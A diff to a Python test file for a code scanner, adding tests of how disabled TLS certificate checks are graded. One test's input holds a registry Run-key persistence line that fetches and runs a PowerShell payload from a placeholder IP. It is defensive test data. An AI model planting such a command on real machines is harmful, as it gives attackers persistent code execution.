@@ -1,12 +1,15 @@
 """Severities fact cases give: constant-only SQL/shell re-graded, login-name beacons high, own-IP lookups low."""
 from __future__ import annotations
 
+from pathlib import Path
+
 from codescan.analyze.document import Analyzer
 from codescan.config import Config
 from codescan.records import Document
 from codescan.rules import load_rules
 
 RULES = load_rules()
+FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "rules" / "python"
 
 
 def _by_line(rule_id: str, path: str, text: str) -> dict[int, str]:
@@ -499,3 +502,14 @@ def test_a_fetch_and_run_command_under_a_run_key_is_critical_the_key_itself_high
             "winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'powershell -c iex(iwr http://203.0.113.5/a)')\n"
             "winreg.SetValueEx(k, 'v', 0, winreg.REG_SZ, 'C:\\\\tools\\\\agent.exe')\n")
     assert _by_line("registry-run-key-persistence", "setup.py", text) == {3: "high", 4: "critical"}
+
+
+def test_tls_checks_off_on_a_branch_the_callers_option_chooses_are_medium():
+    text = (FIXTURES / "ssl-cert-checks-disabled" / "library_options.py").read_text(encoding="utf-8")
+    # verify is False / the else of cert_reqs == CERT_REQUIRED / self.insecure: the caller's choice; `if url:` is
+    # no option, and verify_certs=False makes the insecure branch every caller's default
+    assert _by_line("ssl-cert-checks-disabled", "lib/context.py", text) == {
+        11: "medium", 12: "medium", 22: "medium", 30: "high", 37: "high", 45: "medium"}
+    text = (FIXTURES / "tls-verify-disabled" / "library_options.py").read_text(encoding="utf-8")
+    # the shape match and the fact verdict on one line: the option's grading holds for both
+    assert _by_line("tls-verify-disabled", "lib/client.py", text) == {8: "medium", 14: "high"}
